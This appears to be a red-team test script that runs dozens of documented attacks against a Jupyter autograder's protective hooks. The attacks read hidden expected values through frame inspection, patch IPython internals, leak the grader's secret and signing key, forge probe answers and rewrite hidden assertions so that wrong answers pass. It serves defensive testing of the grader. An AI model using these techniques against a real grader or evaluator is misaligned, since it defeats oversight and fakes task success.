"""Round 23, hostile: each attack of FINDINGS.md run in the cheap harness (tests/test_hostile_hooks.run_notebook).

Run, from the checkout:  timeout 600 .venv/bin/python tests/redteam/round23/hostile/attacks.py [NAME ...]

For each attack it prints the runtime flags (``ctx.tampered``), the static scan's findings on each student cell,
and what the test cells and student cells showed (an empty list for a test cell: it passed). The answer ``f``
is wrong everywhere (it returns 0, or nothing useful); the hidden tests expect 42.
"""
from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[3]))  # the checkout's tests/ (parents[3] is tests/)
from test_hostile_hooks import report_attacks  # noqa: E402

SETUP = "import os, sys\ndef _close(a, b):\n    return abs(a - b) < 1e-6"
PROTECTED = {"_REF", "_close"}
T1 = "assert callable(f)\n### BEGIN HIDDEN TESTS\nassert _close(f(1), 42), 'hidden-1'\n### END HIDDEN TESTS"
T2 = "assert callable(f)\n### BEGIN HIDDEN TESTS\nassert _close(f(2), 42), 'hidden-2'\n### END HIDDEN TESTS"
# the hidden value only lives in the hook's run_hidden frame (`bound`) while f runs
T_EXPECTED = "assert callable(f)\n### BEGIN HIDDEN TESTS\nexpected = 42\nassert f(1) == expected, 'hidden-e'\n### END HIDDEN TESTS"
T_TWO_STEPS = ("assert callable(f)\n### BEGIN HIDDEN TESTS\nout = f(1)\nassert _close(out, 42), 'hidden-1'\n"
               "### END HIDDEN TESTS")

# F1: a signal handler, set and put back inside the answer, is handed the running frame with no audit event; f_back and
# f_locals raise none either. From there: the hidden lines' values (run_hidden's `bound`), and the hook's own closure
SIGNAL_READ = r'''
import os, subprocess
_sp = subprocess
_n1, _n2 = 'f_' + 'back', 'f_' + 'locals'
def _find(fr):
    while fr is not None:
        loc = getattr(fr, _n2)
        b = loc.get('bound')
        if type(b) is dict and 'expected' in b:
            return b['expected']
        fr = getattr(fr, _n1)
def f(v):
    box = []
    old = _sp.signal.signal(10, lambda s, fr: box.append(_find(fr)))
    try:
        os.kill(os.getpid(), 10)
        for _ in range(100):
            pass
    finally:
        _sp.signal.signal(10, old)
    return box[0] if box else None
'''
# F1b: the same frames, used to rewrite the hook's `known` (what the next hidden statements fold in as constants) and
# `trusted` (what every later hidden test gets): `_close` becomes "always true"
SIGNAL_REWRITE = SIGNAL_READ.replace(r'''        b = loc.get('bound')
        if type(b) is dict and 'expected' in b:
            return b['expected']
''', r'''        for key in ('known', 'trusted'):
            d = loc.get(key)
            if type(d) is dict:
                for name in list(d):
                    if 'close' in name:
                        d[name] = lambda *a, **k: True
''').replace("return box[0] if box else None", "return 0")

# F2: IPython's text formatter class (not the instance, whose id the probe keeps) turns every request's value into
# text, the probe's answer included: it replays the first clean digest with the nonce of each probe and drops the
# recorded events; at the first probe it sees (computed before), it patches builtins.abs, which the sealed _close reads
FORMATTER = r'''
import sys, ast
_b = __import__('builtins')
_sh, _n = getattr(exit, '_ip'), 'display' + '_formatter'
_fm = type(getattr(_sh, _n).formatters['text/plain'])
_orig_call = _fm.__call__
_clean = {}
def _call(self, obj):
    if type(obj) is list and len(obj) == 1 and type(obj[0]) is str and obj[0].startswith("{'nonce'"):
        d = ast.literal_eval(obj[0])
        if 'digest' not in _clean:
            _clean['digest'] = d['digest']
            _a = _b.abs
            setattr(_b, 'abs', lambda x, _a=_a: 0.0 if x == -42 else _a(x))
        d['digest'], d['events'] = _clean['digest'], []
        return repr([repr(d)])
    return _orig_call(self, obj)
setattr(_fm, '__call__', _call)
def f(v):
    return 0
'''

# F3: the probe takes B.vars (and B.id, B.dict, ...) from the builtins module as it finds it: a vars() that shows the
# builtins module as it was hides every patch of the builtins (here abs, which the sealed _close reads)
FAKE_VARS = r'''
_b = __import__('builtins')
_snap = dict(_b.__dict__)
_rv = _b.vars
def _vars(*a):
    if a and a[0] is _b:
        return dict(_snap)
    return _rv(*a)
_a = _b.abs
for _k, _v in {'vars': _vars, 'abs': lambda x, _a=_a: 0.0 if x == -42 else _a(x)}.items():
    setattr(_b, _k, _v)
def f(v):
    return 0
'''

# F4: code compiled from text by a library (timeit's "<timeit-src>") is nobody's: forged() skips it (the requesting
# frame is timeit's), and record() walks past "<...>" frames to the hidden lines' frame (the grader's)
_PEEK = ("import sys\ndef peek(v):\n    f = sys._getframe(1)\n    while f is not None:\n"
         "        b = f.f_locals.get('bound')\n        if type(b) is dict and 'expected' in b:\n"
         "            return b['expected']\n        f = f.f_back\n")
TIMEIT = ("import timeit\n_d = {}\n_src = " + " + ".join(repr(_PEEK[i:i + 7]) for i in range(0, len(_PEEK), 7))
          + "\ntimeit.Timer('pass', 'global peek\\n' + _src, globals=_d).timeit(1)\nf = _d['peek']\n")
TIMEIT_CONTROL = _PEEK + "f = peek\n"   # the same reader written in the cell: flagged at runtime and statically

# F5: the hook drops the grader's cells from `sys.modules["linecache"].cache` with the cache's own pop(): a dict
# subclass there keeps the gated test line (secret, hidden lines, token); a later student cell prints it
LINECACHE = r'''
import traceback
_k = 'line' + 'cache'
_lc = getattr(traceback, _k)
class _Keep(dict):
    def pop(self, key, *default):
        return self.get(key, *default)
_lc.cache = _Keep(_lc.cache)
def f(v):
    return 0
'''
LEAK = r'''
_texts = [''.join(v[2]) for k, v in list(_lc.cache.items()) if 'ipykernel' in k and len(v) > 2]
print('LEAKED', [t for t in _texts if 'attnlab.test' in t])
'''
# F6: with the leaked secret, a trust request (refused only while a test runs) from code whose globals are the
# student's dict (timeit again): every later hidden test's _close is the student's
TRUST = r'''
import timeit, re
_texts = [''.join(v[2]) for k, v in list(_lc.cache.items()) if 'ipykernel' in k and len(v) > 2]
_secret = next(re.search(r"box=\[\('attnlab\.test', '([0-9a-f]+)'", t).group(1) for t in _texts if 'box=' in t)
_name = '_clo' + 'se'
_d = {_name: lambda *a, **k: True, '_a': __import__('sys').audit, '_s': _secret, '_n': (_name,)}
timeit.Timer("_a('attnlab.trust', _s, _n)", globals=_d).timeit(1)
'''

# F7: IPython's TransformerManager class (the probe keeps the manager's id and type and its lists, not its class's
# methods): transform_cell sees every cell's text, the gated test line with the secret and the hidden lines included,
# and rewrites the hidden lines
TRANSFORMER = r'''
import sys
_sh, _m = getattr(exit, '_ip'), 'input_transformer' + '_manager'
_TM = type(getattr(_sh, _m))
_name = 'transform' + '_cell'
_orig = getattr(_TM, _name)
def _mine(self, cell):
    out = _orig(self, cell)
    if 'attnlab.test' in out:
        out = out.replace('assert ', 'assert 1 or ')
    return out
setattr(_TM, _name, _mine)
def f(v):
    return 0
'''

# F8: the probe reads attributes of the notebook's thread objects (`_getattr(t, "_target")`, `t.name`): a Thread
# subclass whose `_target` is a property runs the student's code inside every probe; there, a signal handler (F1) hands
# it the probe's frames, whose `P` holds the gate's secret before any test cell has run
PROBE_RUNS_ANSWER = r'''
import threading, time, os, subprocess
_sp = subprocess
_n1, _n2 = 'f_' + 'back', 'f_' + 'locals'
_seen = {}
def _grab(fr):
    while fr is not None:
        p = getattr(fr, _n2).get('P')
        if type(p) is dict and 'gate' in p:
            _seen['gate'] = p['gate']
        fr = getattr(fr, _n1)
class _T(threading.Thread):
    @property
    def _target(self):
        if threading.current_thread() is not threading.main_thread():
            return self.__dict__.get('_t')
        old = _sp.signal.signal(10, lambda s, fr: _grab(fr))
        try:
            os.kill(os.getpid(), 10)
            for _ in range(100):
                pass
        finally:
            _sp.signal.signal(10, old)
        return self.__dict__.get('_t')
    @_target.setter
    def _target(self, value):
        self.__dict__['_t'] = value
    @_target.deleter
    def _target(self):
        self.__dict__.pop('_t', None)
_T(target=time.sleep, args=(60,), daemon=True).start()
def f(v):
    return 0
'''

ATTACKS = {
    "F1_signal_frame_read": [(SIGNAL_READ, "a1", "student"), (T_EXPECTED, "t1", "test")],
    "F1b_signal_rewrites_hook_state": [(SIGNAL_REWRITE, "a1", "student"), (T_TWO_STEPS, "t1", "test"),
                                       ("x = 2", "a2", "student"), (T2, "t2", "test")],
    "F2_formatter_replays_probe": [(FORMATTER, "a1", "student"), (T1, "t1", "test"), ("x = 2", "a2", "student"),
                                   (T2, "t2", "test")],
    "F3_fake_builtins_vars": [(FAKE_VARS, "a1", "student"), (T1, "t1", "test"), ("x = 2", "a2", "student"),
                              (T2, "t2", "test")],
    "F4_timeit_code_is_nobodys": [(TIMEIT, "a1", "student"), (T_EXPECTED, "t1", "test")],
    "F4_control_same_reader_in_cell": [(TIMEIT_CONTROL, "a1", "student"), (T_EXPECTED, "t1", "test")],
    "F5_linecache_keeps_test_source": [(LINECACHE, "a1", "student"), (T1, "t1", "test"), (LEAK, "a2", "student")],
    "F6_leaked_secret_trust_request": [(LINECACHE, "a1", "student"), (T1, "t1", "test"), (TRUST, "a2", "student"),
                                       (T2, "t2", "test"), ("x = 3", "a3", "student")],
    "F7_transformer_class_rewrites_hidden_lines": [(TRANSFORMER, "a1", "student"), (T1, "t1", "test"),
                                                   ("x = 2", "a2", "student"), (T2, "t2", "test")],
    "F8_probe_runs_the_answers_code": [(PROBE_RUNS_ANSWER, "a1", "student"),
                                       ("print('secret from the probe:', _seen)", "a2", "student")],
}


# ---------------------------------------------------------------- second pass (against the fixes of F1-F8)
# G1: the signal gate is a plain Python function on _signal; its __closure__ (no audit event) holds the hook's state:
# the raw setter (F1 again) and `st` (the event record)
_REACH = r'''
import subprocess
_sp = subprocess
_c, _cc = '__clo' + 'sure__', 'cell_' + 'contents'
def _reach(fn, seen, depth=0):
    out = []
    for cell in getattr(fn, _c, None) or ():
        try:
            v = getattr(cell, _cc)
        except ValueError:
            continue
        if id(v) in seen:
            continue
        seen.add(id(v))
        out.append(v)
        if depth < 3 and type(v) is type(_reach):
            out += _reach(v, seen, depth + 1)
    return out
_all = _reach(getattr(_sp.signal, '_sig' + 'nal').signal, set())
'''
RAW_SETTER = _REACH + r'''
_raw = next(v for v in _all if type(v) is type(len) and getattr(v, '__name__', '') == 'signal')
_sp = type('_P', (), {'signal': type('_Q', (), {'signal': staticmethod(_raw)})})
''' + SIGNAL_READ.replace("import os, subprocess\n_sp = subprocess\n", "import os\n")
RAW_REWRITE = _REACH + r'''
_raw = next(v for v in _all if type(v) is type(len) and getattr(v, '__name__', '') == 'signal')
_sp = type('_P', (), {'signal': type('_Q', (), {'signal': staticmethod(_raw)})})
''' + SIGNAL_REWRITE.replace("import os, subprocess\n_sp = subprocess\n", "import os\n")
# G1c: the record itself: a plain frame reader (sys._getframe, recorded) that empties st.events afterwards
EMPTY_RECORD = _REACH + r'''
_st = next(v for v in _all if type(v).__name__ == 'SimpleNamespace' and hasattr(v, 'events'))
_k, _n1, _n2 = '_get' + 'frame', 'f_' + 'back', 'f_' + 'locals'
_g = getattr(_sp.sys, _k)
def f(v):
    fr = _g(1)
    out = None
    while fr is not None:
        b = getattr(fr, _n2).get('bound')
        if type(b) is dict and 'expected' in b:
            out = b['expected']
            break
        fr = getattr(fr, _n1)
    del _st.events[:]
    return out
'''
ATTACKS.update({
    "G1_gate_closure_raw_setter": [(RAW_SETTER, "a1", "student"), (T_EXPECTED, "t1", "test")],
    "G1b_gate_closure_rewrite_trusted": [(RAW_REWRITE, "a1", "student"), (T_TWO_STEPS, "t1", "test"),
                                          ("x = 2", "a2", "student"), (T2, "t2", "test")],
    "G1c_gate_closure_empties_record": [(EMPTY_RECORD, "a1", "student"), (T_EXPECTED, "t1", "test")],
})

# G2: the gate lets any handler whose class has int in its MRO through (meant for SIG_DFL/SIG_IGN); _signal compares
# only exact ints with those, so an int subclass with __call__ is called with the running frame
INT_HANDLER = SIGNAL_READ.replace("def f(v):\n    box = []\n    old = _sp.signal.signal(10, lambda s, fr: box.append(_find(fr)))",
"""_set = getattr(_sp.signal, '_sig' + 'nal').signal
class _H(int):
    box = []
    def __call__(self, s, fr):
        self.box.append(_find(fr))
def f(v):
    box = _H.box
    del box[:]
    old = _set(10, _H(7))""").replace("        _sp.signal.signal(10, old)", "        _set(10, old)")
# G3: the gate lets a bound method through when its function is installed: unittest's _InterruptHandler.__call__
# hands (signum, frame) to self.default_handler, the answer's function
BOUND_HANDLER = SIGNAL_READ.replace("import os, subprocess", "import os, subprocess, unittest.signals").replace(
    "    old = _sp.signal.signal(10, lambda s, fr: box.append(_find(fr)))",
    """    _h = unittest.signals._InterruptHandler(0)
    _h.default_handler = lambda s, fr: box.append(_find(fr))
    old = _sp.signal.signal(10, _h.__call__)""")
ATTACKS.update({
    "G2_int_subclass_handler": [(INT_HANDLER, "a1", "student"), (T_EXPECTED, "t1", "test")],
    "G3_installed_bound_method_handler": [(BOUND_HANDLER, "a1", "student"), (T_EXPECTED, "t1", "test")],
})

# G4: the formatter channel with correctly re-signed answers. The signing key (and the gate's secret) are free
# variables of the hook, so its frame's f_locals shows them to a handler let through the gate (G2) while a test runs;
# IPython.lib.pretty.RepresentationPrinter (not fingerprinted) rewrites each probe answer: the first clean digest,
# no events, signed again with the stolen key and the request's nonce (read from the kernel's parent message)
FORGE = r'''
import os, subprocess, re, hashlib
_sp = subprocess
_n1, _n2 = 'f_' + 'back', 'f_' + 'locals'
_set = getattr(_sp.signal, '_sig' + 'nal').signal
_stolen = {}
def _walk(fr):
    while fr is not None:
        loc = getattr(fr, _n2)
        s = loc.get('signing')
        if type(s) is list and s and type(s[0]) is bytes:
            _stolen['key'] = s[0]
        b = loc.get('bound')
        if type(b) is dict and 'expected' in b:
            _stolen['expected'] = b['expected']
        fr = getattr(fr, _n1)
class _H(int):
    def __call__(self, s, fr):
        _walk(fr)
def _peek():
    old = _set(10, _H(7))
    try:
        os.kill(os.getpid(), 10)
        for _ in range(100):
            pass
    finally:
        _set(10, old)
_sh = getattr(exit, '_ip')
_k1, _k2, _k3, _k4 = '__glo' + 'bals__', 'display' + '_formatter', 'user_' + 'expressions', 'get_' + 'parent'
_pl = getattr(_sh, _k2).formatters['text/plain']
_fn = next(iter(_pl.type_printers.values()))
_RP = getattr(_fn, _k1)['Representation' + 'Printer']
_orig = _RP.pretty
_clean = {}
_DIG = re.compile(r"'digest': \{[^}]*\}")
_EV = re.compile(r"'events': \[.*?\], 'errors': ")
def _answer(obj):
    return (type(obj) is list and len(obj) == 1 and type(obj[0]) is tuple and len(obj[0]) == 2
            and type(obj[0][0]) is str and obj[0][0].startswith('"{\'nonce\''))
def _pretty(self, obj):
    if _answer(obj):
        text = obj[0][0]
        if 'digest' not in _clean:
            _clean['digest'] = _DIG.search(text).group(0)   # the first clean answer's digests
        elif 'key' in _stolen:
            text = _EV.sub("'events': [], 'errors': ", _DIG.sub(lambda m: _clean['digest'], text))
            req = getattr(_sh.kernel, _k4)()['content'][_k3]['r']
            nonce = re.findall(r"'([0-9a-f]{16})'\)\]: box\)", req)[-1]
            mac = hashlib.blake2b((nonce + '\x00' + text).encode(), key=_stolen['key'], digest_size=16).hexdigest()
            obj = [(text, mac)]
    return _orig(self, obj)
_RP.pretty = _pretty
def f(v):
    if 'key' not in _stolen:
        _peek()
        return _stolen.get('expected')
    return 0
'''
PATCH_ABS = r'''
_a = abs
_bi = _sp.builtins
setattr(_bi, 'abs', lambda x, _a=_a: 0.0 if x == -42 else _a(x))
'''
ATTACKS.update({
    "G4_resigned_formatter_answers": [(FORGE, "a1", "student"), (T_EXPECTED, "t1", "test"),
                                      (PATCH_ABS, "a2", "student"), (T2, "t2", "test"), ("x = 3", "a3", "student")],
})
ATTACKS["G4_control_without_the_forgery"] = [(FORGE.replace("_RP.pretty = _pretty\n", ""), "a1", "student"),
                                             (T_EXPECTED, "t1", "test"), (PATCH_ABS, "a2", "student"),
                                             (T2, "t2", "test"), ("x = 3", "a3", "student")]


# G6: F7's sibling on the instance: transform_cell set as an attribute of the shell's TransformerManager instance
# (the probe fingerprints the class's dict and the manager's three lists, not the instance's __dict__)
INSTANCE_TRANSFORMER = r'''
import re
_sh, _m = getattr(exit, '_ip'), 'input_transformer' + '_manager'
_tm = getattr(_sh, _m)
_name = 'transform' + '_cell'
_orig = getattr(_tm, _name)            # the bound method of the class's function
def _mine(cell):
    out = _orig(cell)
    if 'attnlab.test' in out:
        out = out.replace('assert ', 'assert 1 or ')
    return out
setattr(_tm, _name, _mine)             # on the instance: its class is fingerprinted, its __dict__ is not
def f(v):
    return 0
'''
ATTACKS.update({"G6_transformer_instance_attribute": [(INSTANCE_TRANSFORMER, "a1", "student"), (T1, "t1", "test"),
                                                 ("x = 2", "a2", "student"), (T2, "t2", "test")]})

# G9: the probe runs the answer's code again (F8's sibling): `_dict(plain.type_printers)` copies a dict subclass
# with its own __iter__ through keys() and [k]; inside, a handler let through the gate (G2) reads the probe's `P`
PROBE_DICT = r'''
import os, subprocess
_sp = subprocess
_n1, _n2 = 'f_' + 'back', 'f_' + 'locals'
_set = getattr(_sp.signal, '_sig' + 'nal').signal
_seen = {'calls': 0}
def _grab(fr):
    while fr is not None:
        loc = getattr(fr, _n2)
        p = loc.get('P')
        if type(p) is dict and 'gate' in p:
            _seen['gate'] = p['gate']
        fr = getattr(fr, _n1)
class _H(int):
    def __call__(self, s, fr):
        _grab(fr)
class _D(dict):
    def __iter__(self):                 # dict(x) of a dict subclass that has its own __iter__ calls keys() and [k]
        _seen['calls'] += 1
        old = _set(10, _H(7))
        try:
            os.kill(os.getpid(), 10)
            for _ in range(100):
                pass
        finally:
            _set(10, old)
        return dict.__iter__(self)
    def keys(self):
        return list(iter(self))
_sh, _k = getattr(exit, '_ip'), 'display' + '_formatter'
_pl = getattr(_sh, _k).formatters['text/plain']
_pl.type_printers = _D(_pl.type_printers)
def f(v):
    return 0
'''
ATTACKS.update({"G9_probe_iterates_a_dict_subclass": [(PROBE_DICT, "a1", "student"),
                                                 ("print('ran in probe:', _seen)", "a2", "student")]})


# G10: F5's sibling: sys.modules['linecache'] replaced by a stand-in module whose cache is a plain dict: the hook
# pops the grader's cells from the stand-in, IPython keeps writing them into the real module's cache (its own global)
STANDIN = r'''
import subprocess, traceback
_sp = subprocess
_k = 'line' + 'cache'
_real = getattr(traceback, _k)
_fake = type(_sp)(_k)
_fake.cache = {}                      # a plain dict: the hook pops the grader's cells from it
_fake.getline = _real.getline
_fake.checkcache = _real.checkcache
_fake.getlines = _real.getlines
_sp.sys.modules[_k] = _fake
def f(v):
    return 0
'''
LEAK2 = r'''
_texts = [''.join(v[2]) for k, v in list(_real.cache.items()) if len(v) > 2]
print('LEAKED', [t for t in _texts if 'attnlab.test' in t])
'''
ATTACKS.update({"G10_linecache_standin_module": [(STANDIN, "a1", "student"), (T1, "t1", "test"), (LEAK2, "a2", "student")]})
# G10b: the answer reads the running test cell's hidden lines there, while the test runs, and returns what they expect
STANDIN_READ = STANDIN.replace("def f(v):\n    return 0\n", r"""import re
def f(v):
    for k, e in list(_real.cache.items())[::-1]:
        if len(e) > 2 and 'attnlab.test' in ''.join(e[2]):
            m = re.search(r'f\(' + str(v) + r'\), ([0-9.]+)', ''.join(e[2]))
            if m:
                return float(m.group(1))
    return 0
""")
ATTACKS["G10b_linecache_standin_answer_reads_test"] = [(STANDIN_READ, "a1", "student"), (T1, "t1", "test"),
                                                       ("x = 2", "a2", "student"), (T2, "t2", "test")]
# G10c: F6 again: the secret from G10's cache buys a trust request (from a timeit frame whose globals are the answer's)
ATTACKS["G10c_standin_secret_then_trust"] = [(STANDIN, "a1", "student"), (T1, "t1", "test"),
                                             (TRUST.replace("_lc.cache", "_real.cache"), "a2", "student"),
                                             (T2, "t2", "test"), ("x = 3", "a3", "student")]


_PEEK2 = _PEEK + "\n"
# G11: a compile whose file name holds "ipykernel_" is filed under st.cell, whoever asks: asked by the answer while a
# test cell runs, the code is the grader's, and its frame reads go unrecorded
IPYKERNEL_NAME = ("import code as _cm\n_d = {}\n_src = " + " + ".join(repr(_PEEK2[i:i + 7]) for i in range(0, len(_PEEK2), 7))
                  + "\n_fn = '/tmp/ipyk' + 'ernel_0/0.py'\n"
                  "def f(v):\n    if 'peek' not in _d:\n        _cm.InteractiveInterpreter(_d).runsource(_src, _fn, 'exec')\n"
                  "    return _d['peek'](v)\n")
ATTACKS.update({"G11_ipykernel_file_name_is_the_running_cells": [(IPYKERNEL_NAME, "a1", "student"), (T_EXPECTED, "t1", "test")],
           "G11_control_student_cell_name": [(IPYKERNEL_NAME.replace("ipyk' + 'ernel", "other"), "a1", "student"),
                                             (T_EXPECTED, "t1", "test")]})


# G12: G6 on IPython's compiler instance: ast_parse set on shell.compile (a CachingCompiler) sees and rewrites every
# cell's source before it is parsed, the gated test line included
COMPILER_INSTANCE = r'''
_sh, _m = getattr(exit, '_ip'), 'com' + 'pile'
_cc = getattr(_sh, _m)
_name = 'ast' + '_parse'
_orig = getattr(_cc, _name)
def _mine(source, filename='<unknown>', symbol='exec'):
    if 'attnlab.test' in source:
        source = source.replace('assert ', 'assert 1 or ')
    return _orig(source, filename, symbol)
setattr(_cc, _name, _mine)
def f(v):
    return 0
'''
ATTACKS.update({"G12_compiler_instance_ast_parse": [(COMPILER_INSTANCE, "a1", "student"), (T1, "t1", "test"),
                                               ("x = 2", "a2", "student"), (T2, "t2", "test")]})


# G11b: the same, from a student cell: under the file name IPython gave the locked setup cell (computed from its
# released source), the reader's code is the grader's for good (setdefault keeps the first owner)
SRC = ("import code as _cm\n_d = {}\n_src = " + " + ".join(repr(_PEEK2[i:i + 7]) for i in range(0, len(_PEEK2), 7))
       + "\n_sh, _m = getattr(exit, '_ip'), 'com' + 'pile'\n_setup = " + repr(SETUP) + "\n"
       "_fn = getattr(_sh, _m).get_code_name(_setup, _setup, 0)\nprint(_fn)\n"
       "_cm.InteractiveInterpreter(_d).runsource(_src, _fn, 'exec')\nf = _d['peek']\n")
ATTACKS.update({"G11b_locked_cells_file_name": [(SRC, "a1", "student"), (T_EXPECTED, "t1", "test")]})
ATTACKS["G11b_control_other_ipykernel_name"] = [(SRC.replace("get_code_name(_setup, _setup, 0)", "get_code_name('x = 1', 'x = 1', 0)"), "a1", "student"),
                                                (T_EXPECTED, "t1", "test")]



# ---------------------------------------------------------------------------------------------------------------
# Third pass (H*): the running test cell's request, as the kernel and IPython keep it while the test runs, holds the
# gate's secret, the hidden lines and the token; with the secret, the hook's own requests work from a student cell
# H4: the kernel's parent message (get_parent()['content']['code']) while the hidden lines call the answer; the name
# built in a statement of its own, so the static scan's KERNEL_ATTRS rule (which folds names built inside the call)
# does not see it. The answer returns the number the hidden assertion expects, and keeps the secret
PARENT_CODE = r'''
import re
_sh = getattr(exit, '_ip')
_k = 'get_' + 'par' + 'ent'
_seen = {}
def _code():
    return str(getattr(_sh.kernel, _k)().get('content', {}).get('code', ''))
def f(v):
    t = _code()
    g = re.search(r"'attnlab\.(?:test|done)', '([0-9a-f]+)'", t)
    if g:
        _seen['secret'] = g.group(1)
    m = re.search(r'f\(' + str(v) + r'\), ([0-9.]+)', t)
    return float(m.group(1)) if m else 0
'''
# H7: the same text in IPython's ExecutionResult for the running cell (shell.displayhook.exec_result.info.raw_cell)
EXEC_RESULT = r'''
import re
_sh = getattr(exit, '_ip')
_k = 'display' + 'hook'
def f(v):
    t = str(getattr(_sh, _k).exec_result.info.raw_cell)
    m = re.search(r'f\(' + str(v) + r'\), ([0-9.]+)', t)
    return float(m.group(1)) if m else 0
'''
# H5: with the secret, the hook's probe event ('take') hands the answer the hook's record, empties it (and hands over
# student_code, a closure of the hook's): a frame reader's reads while the next test runs are never reported
TAKE = r'''
import subprocess
_sp = subprocess
_g, _n1, _n2 = '_get' + 'frame', 'f_' + 'back', 'f_' + 'locals'
_au = getattr(_sp.sys, 'aud' + 'it')
def f(v):
    fr = getattr(_sp.sys, _g)(1)
    out = None
    while fr is not None:
        b = getattr(fr, _n2).get('bound')
        if type(b) is dict and 'expected' in b:
            out = b['expected']
            break
        fr = getattr(fr, _n1)
    fr = None
    box = {'take': True}
    _au('attnlab.' + 'probe', _seen['secret'], box)
    _seen['taken'] = box.get('events')
    return out
'''
# H8: with the secret, a test request from a student cell outside tests: its "hidden lines" (the answer's own text,
# reversed past the static scan's string rule) run as the grader's code; they rewrite the hook's `known`/`trusted`
# (_close always true for every later test), and the take empties the record of the frame read
_REWRITE_SRC = ("import sys\nfr = sys._getframe(0)\nwhile fr is not None:\n"
                "    for key in ('known', 'trusted'):\n        d = fr.f_locals.get(key)\n"
                "        if type(d) is dict:\n            for name in list(d):\n"
                "                if 'close' in name:\n                    d[name] = lambda *a, **k: True\n"
                "    fr = fr.f_back\n")
OWN_HIDDEN_LINES = ("import subprocess\n_au = getattr(subprocess.sys, 'aud' + 'it')\n_src = " + repr(_REWRITE_SRC[::-1])
                    + "[::-1]\n_au('attnlab.' + 'test', _seen['secret'], ((True, 'exec(' + repr(_src) + ')', 1),), 'x' * 32)\n"
                    "_au('attnlab.' + 'probe', _seen['secret'], {'take': True})\ndef f(v):\n    return 0\n")
# H10: the same own hidden lines find the hook's frame and raise its free variable `signing` (the keyed hash's key)
# out to the student cell; G4's RepresentationPrinter.pretty forger signs rewritten probe answers with it: any later
# digest change (builtins.abs, read by the sealed _close) is never seen
_STEAL_RAISE = ("import sys\nfr = sys._getframe(0)\nwhile fr is not None:\n"
                "    s = fr.f_locals.get('signing')\n    if type(s) is list:\n        raise LookupError(s[0])\n"
                "    fr = fr.f_back\n")
_FORGER = FORGE[FORGE.index("_k1, _k2"):FORGE.index("def f(v):")]
STOLEN_KEY = ("import subprocess, re, hashlib\n_sp = subprocess\n_au = getattr(_sp.sys, 'aud' + 'it')\n_src = "
              + repr(_STEAL_RAISE[::-1]) + "[::-1]\n_stolen = {}\ntry:\n"
              "    _au('attnlab.' + 'test', _seen['secret'], ((True, 'exec(' + repr(_src) + ')', 1),), 'x' * 32)\n"
              "except LookupError as e:\n    _stolen['key'] = e.args[0]\n"
              "_au('attnlab.' + 'probe', _seen['secret'], {'take': True})\n" + _FORGER + "def f(v):\n    return 0\n")
ATTACKS.update({
    "H4_parent_message_holds_the_test_cell": [(PARENT_CODE, "a1", "student"), (T1, "t1", "test"),
                                              ("x = 2", "a2", "student"), (T2, "t2", "test"), ("print(_seen)", "a3", "student")],
    # H4c: a test cell with no hidden lines: its done line (added to the cell's code) carries the secret just the same;
    # then H10's key theft and forger, the forger setting G6's transform_cell at the first clean probe answer it sees
    # (subs_ch2_pass3.SECOND): later test cells with hidden lines pass with every answer returning None
    "H4c_done_line_secret_then_forged_G6": [(PARENT_CODE, "a1", "student"), ("assert callable(f)\nf(1)", "t1", "test"),
                                            (None, "a2", "student"), (T2, "t2", "test"), ("x = 3", "a3", "student"),
                                            (T1, "t3", "test")],
    "H7_exec_result_raw_cell": [(EXEC_RESULT, "a1", "student"), (T1, "t1", "test")],
    "H5_secret_then_probe_take_empties_record": [(PARENT_CODE, "a1", "student"), (T1, "t1", "test"), (TAKE, "a2", "student"),
                                                 (T_EXPECTED, "t2", "test"), ("print(_seen)", "a3", "student")],
    "H5_control_without_take": [(PARENT_CODE, "a1", "student"), (T1, "t1", "test"),
                                (TAKE.replace("    _au('attnlab.' + 'probe', _seen['secret'], box)", "    pass"), "a2", "student"),
                                (T_EXPECTED, "t2", "test")],
    "H8_secret_runs_own_hidden_lines": [(PARENT_CODE, "a1", "student"), (T1, "t1", "test"), (OWN_HIDDEN_LINES, "a2", "student"),
                                        (T2, "t2", "test"), ("x = 3", "a3", "student")],
    "H8_control_without_take": [(PARENT_CODE, "a1", "student"), (T1, "t1", "test"),
                                (OWN_HIDDEN_LINES.replace("_au('attnlab.' + 'probe', _seen['secret'], {'take': True})\n", ""),
                                 "a2", "student"), (T2, "t2", "test"), ("x = 3", "a3", "student")],
    "H10_stolen_key_signs_forged_probe_answers": [(PARENT_CODE, "a1", "student"), (T1, "t1", "test"),
                                                  (STOLEN_KEY, "a2", "student"), (PATCH_ABS, "a3", "student"),
                                                  (T2, "t2", "test"), ("x = 3", "a4", "student")],
    "H10_control_without_the_forger": [(PARENT_CODE, "a1", "student"), (T1, "t1", "test"),
                                       (STOLEN_KEY.replace("_RP.pretty = _pretty\n", ""), "a2", "student"),
                                       (PATCH_ABS, "a3", "student"), (T2, "t2", "test"), ("x = 3", "a4", "student")],
})


sys.path.insert(0, str(Path(__file__).resolve().parent))
import subs_ch2_pass3  # noqa: E402
ATTACKS["H4c_done_line_secret_then_forged_G6"][2] = (subs_ch2_pass3.SECOND + "f = lambda v: softmax_backward(v, v)\n",
                                                      "a2", "student")

def main(names):
    report_attacks(ATTACKS, SETUP, PROTECTED, names, prefix="rt23h-")


if __name__ == "__main__":
    main(sys.argv[1:])
